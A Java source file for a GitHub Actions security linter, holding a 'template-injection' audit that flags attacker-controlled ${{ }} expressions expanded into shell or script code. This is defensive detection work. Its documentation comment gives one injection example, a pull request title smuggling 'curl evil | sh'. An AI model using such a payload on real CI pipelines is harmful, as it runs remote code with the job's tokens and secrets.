package dev.vigil.pipeline.audits;

import dev.vigil.pipeline.audit.Audit;
import dev.vigil.pipeline.audit.AuditContext;
import dev.vigil.pipeline.audit.AuditInfo;
import dev.vigil.pipeline.audit.Confidence;
import dev.vigil.pipeline.audit.Persona;
import dev.vigil.pipeline.audit.Severity;
import dev.vigil.pipeline.model.CiFile;
import dev.vigil.pipeline.model.Contexts;
import dev.vigil.pipeline.model.Job;
import dev.vigil.pipeline.model.Step;
import dev.vigil.pipeline.yaml.YNode;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * {@code ${{ }}} expressions expanded into code ({@code run:}, github-script's {@code script:}) whose value an
 * outsider controls. Expressions are expanded before the shell runs, so a pull request title such as
 * {@code "; curl evil | sh #} becomes code. Values that cannot carry code (SHAs, numeric ids, step outcomes,
 * booleans) are on an allow-list and never reported: false positives here are the peers' most common complaint.
 */
public final class TemplateInjection implements Audit {
  static final AuditInfo INFO = new AuditInfo("template-injection", "code injection via template expansion",
      Severity.HIGH,
      "GitHub expands ${{ }} in a script before running it; attacker-controlled text (issue and pull request "
          + "titles and bodies, comments, branch names, commit messages, free-text inputs) becomes shell or "
          + "JavaScript code running with the job's token and secrets. Expressions whose value cannot carry code "
          + "(SHAs, numeric ids, run numbers, step outcomes, needs results, booleans) are not reported; "
          + "indirect values (env, step outputs) are reported as low.",
      "Pass the value through an environment variable and quote it in the script: "
          + "'env: TITLE: ${{ github.event.issue.title }}' then 'echo \"$TITLE\"'.",
      List.of("https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"),
      "template-injection");

  /** Actions whose input is code. */
  static final Map<String, Set<String>> CODE_INPUTS = Map.of(
      "actions/github-script", Set.of("script"),
      "jannekem/run-python-script-action", Set.of("script"),
      "amadevus/pwsh-script", Set.of("script"),
      "azure/cli", Set.of("inlinescript"),
      "azure/powershell", Set.of("inlinescript"),
      "mikefarah/yq", Set.of("cmd"),
      "appleboy/ssh-action", Set.of("script"),
      "tibdex/backport", Set.of("title_template", "body_template"));

  /** Contexts whose values cannot carry code (fixed format or chosen by the repository). */
  private static final Pattern SAFE = Pattern.compile(String.join("|",
      "github\\.(sha|run_id|run_number|run_attempt|job|workflow_sha|repository_id|repository_owner_id|actor_id"
          + "|retention_days|server_url|api_url|graphql_url|workspace|action_path|token|event_path|env|path|output"
          + "|step_summary|action_status|ref_protected|state)",
      "github\\.event\\.(number|after|before|forced|created|deleted)",
      "github\\.event\\..*\\.(id|node_id|number|sha|merged|draft|fork|private|created_at|updated_at|closed_at"
          + "|merged_at|run_number|run_attempt|conclusion|status|comments|commits|additions|deletions|size"
          + "|changed_files|stargazers_count|default_branch_protected|html_url|url|api_url)",
      "github\\.event\\.pull_request\\.(head|base)\\.sha", "github\\.event\\.workflow_run\\.head_sha",
      "steps\\.[^.]+\\.(outcome|conclusion)", "job\\.(status|container\\.id|services\\..*)", "runner\\..*",
      "strategy\\..*", "jobs\\.[^.]+\\.result", "github\\.event\\.inputs\\.[^.]+\\.(type)"));
  /** Contexts chosen by someone with write access or by GitHub: reported only to pedantic readers. */
  private static final Pattern PEDANTIC = Pattern.compile(String.join("|",
      "github\\.(repository|repository_owner|event_name|triggering_actor|actor|ref_type|workflow|base_ref|action"
          + "|workflow_ref|job_workflow_sha)",
      "github\\.event\\.(repository|sender|organization|installation|enterprise)\\..*", "vars\\..*",
      "needs\\.[^.]+\\.result", "secrets\\..*"));
  private static final Pattern ATTACKER = Pattern.compile(String.join("|",
      "github\\.event(\\..*)?", "github\\.(head_ref|ref|ref_name)"));
  private static final Pattern INDIRECT = Pattern.compile(
      "env\\..*|steps\\.[^.]+\\.outputs.*|needs\\.[^.]+\\.outputs.*|jobs\\.[^.]+\\.outputs.*");

  /** {@code cond && 'a' || 'b'}: the value is one of two literals, whatever the condition. */
  private static final Pattern LITERAL_CHOICE = Pattern.compile(
      "(?s).*&&\\s*('[^']*'|\\d+|true|false)\\s*\\|\\|\\s*('[^']*'|\\d+|true|false)");

  @Override
  public AuditInfo info() {
    return INFO;
  }

  @Override
  public void step(Step step, AuditContext ctx) {
    if (step.run() != null && step.run().isScalar()) {
      scan(step, step.run(), "this run block", ctx);
    }
    if (step.uses() != null && step.uses().repo() != null) {
      Set<String> inputs = CODE_INPUTS.get(step.uses().repo().toLowerCase(java.util.Locale.ROOT));
      if (inputs != null && step.with() != null && step.with().isMap()) {
        for (YNode.Entry e : step.with().entries()) {
          if (e.key().text() != null && inputs.contains(e.key().text().toLowerCase(java.util.Locale.ROOT))) {
            scan(step, e.value(), "this " + e.key().text(), ctx);
          }
        }
      }
    }
  }

  private void scan(Step step, YNode code, String sinkLabel, AuditContext ctx) {
    CiFile file = step.file();
    for (CiFile.Expression e : file.expressions(code)) {
      if (Contexts.booleanExpression(e.body())) {
        continue;
      }
      boolean literalChoice = LITERAL_CHOICE.matcher(e.body().trim()).matches();
      Verdict worst = null;
      String culprit = null;
      for (String ref : Contexts.references(e.body())) {
        Verdict v = classify(ref, step, e.body());
        if (v != null && (worst == null || v.ordinal() > worst.ordinal())) {
          worst = v;
          culprit = ref;
        }
      }
      if (worst == null) {
        continue;
      }
      if (literalChoice) {
        if (worst == Verdict.STATIC_MATRIX) {
          continue;
        }
        worst = Verdict.PEDANTIC; // the value is one of two literals; only the style is questionable
      }
      int[] at = e.body().contains("\n") ? file.positionIn(e, culprit.split("\\.")[0] + ".") : new int[] {e.line(), e.column()};
      var b = ctx.finding(this, file, code).at(at[0], at[1]).note(code, sinkLabel).fact("context", culprit);
      switch (worst) {
        case PEDANTIC -> b.severity(Severity.LOW).confidence(Confidence.HIGH).persona(Persona.PEDANTIC)
            .message("'" + culprit + "' is expanded into code; it is not attacker-controlled, but an env variable "
                + "is safer");
        case STATIC_MATRIX -> b.severity(Severity.LOW).confidence(Confidence.HIGH).persona(Persona.AUDITOR)
            .message("'" + culprit + "' comes from a static matrix and is expanded into code");
        case INDIRECT -> b.severity(Severity.LOW).confidence(Confidence.LOW)
            .message("'" + culprit + "' is expanded into code; its value may come from an attacker");
        case DYNAMIC_MATRIX -> b.severity(Severity.MEDIUM).confidence(Confidence.MEDIUM)
            .message("'" + culprit + "' comes from a computed matrix and is expanded into code");
        case ATTACKER -> b.severity(Severity.HIGH).confidence(Confidence.HIGH)
            .message("'" + culprit + "' may expand into attacker-controlled code");
      }
      b.emit();
    }
  }

  private enum Verdict { PEDANTIC, STATIC_MATRIX, INDIRECT, DYNAMIC_MATRIX, ATTACKER }

  private static Verdict classify(String ref, Step step, String expression) {
    if (SAFE.matcher(ref).matches()) {
      return null;
    }
    if (ref.startsWith("inputs.") || ref.startsWith("github.event.inputs.")) {
      return input(ref.substring(ref.indexOf("inputs.") + 7), step);
    }
    if (ref.startsWith("matrix.")) {
      return matrix(step, ref.substring(7).split("\\.")[0]);
    }
    if (ref.startsWith("env.")) {
      return env(ref.substring(4), step);
    }
    if (PEDANTIC.matcher(ref).matches()) {
      return Verdict.PEDANTIC;
    }
    if (ATTACKER.matcher(ref).matches()) {
      return Verdict.ATTACKER;
    }
    if (INDIRECT.matcher(ref).matches()) {
      return Verdict.INDIRECT;
    }
    return null;
  }

  /** Typed inputs (boolean, number, choice) cannot carry code; undeclared inputs are unknown. */
  private static Verdict input(String name, Step step) {
    String base = name.split("[.\\[]")[0];
    YNode decl = null;
    if (step.action() != null) {
      YNode inputs = step.action().root().get("inputs");
      decl = inputs != null && inputs.isMap() ? inputs.get(base) : null;
    } else if (step.workflow() != null && step.workflow().on() != null && step.workflow().on().isMap()) {
      for (String trigger : List.of("workflow_dispatch", "workflow_call")) {
        YNode t = step.workflow().on().get(trigger);
        YNode inputs = t != null && t.isMap() ? t.get("inputs") : null;
        if (inputs != null && inputs.isMap() && inputs.get(base) != null) {
          decl = inputs.get(base);
        }
      }
    }
    if (decl == null) {
      return Verdict.INDIRECT;
    }
    String type = decl.isMap() ? decl.str("type") : null;
    if (type != null && Set.of("boolean", "number", "choice", "environment").contains(type)) {
      return null;
    }
    return Verdict.ATTACKER;
  }

  /** A variable set to a literal in the step, job or workflow env is safe; one set from an expression is not. */
  private static Verdict env(String name, Step step) {
    YNode[] scopes = {step.env(), step.job() == null ? null : step.job().env(),
        step.workflow() == null ? null : step.workflow().env()};
    for (YNode scope : scopes) {
      if (scope != null && scope.isMap() && scope.get(name) != null) {
        YNode v = scope.get(name);
        return v.isScalar() && !v.text().contains("${{") ? null : Verdict.INDIRECT;
      }
    }
    return Verdict.INDIRECT;
  }

  private static Verdict matrix(Step step, String key) {
    Job job = step.job();
    if (job == null || job.strategy() == null || !job.strategy().isMap()) {
      return Verdict.INDIRECT;
    }
    YNode m = job.strategy().get("matrix");
    if (m == null) {
      return Verdict.INDIRECT;
    }
    if (m.isScalar()) {
      return Verdict.DYNAMIC_MATRIX;
    }
    boolean[] dynamic = {false};
    List<YNode> sources = new java.util.ArrayList<>();
    if (m.get(key) != null) {
      sources.add(m.get(key));
    }
    YNode include = m.get("include");
    if (include != null && include.isScalar()) {
      dynamic[0] = true;
    } else if (include != null && include.isSeq()) {
      include.items().stream().filter(YNode::isMap).map(i -> i.get(key)).filter(java.util.Objects::nonNull)
          .forEach(sources::add);
    }
    sources.forEach(s -> s.scalars(x -> dynamic[0] |= x.text().contains("${{")));
    return dynamic[0] ? Verdict.DYNAMIC_MATRIX : Verdict.STATIC_MATRIX;
  }
}
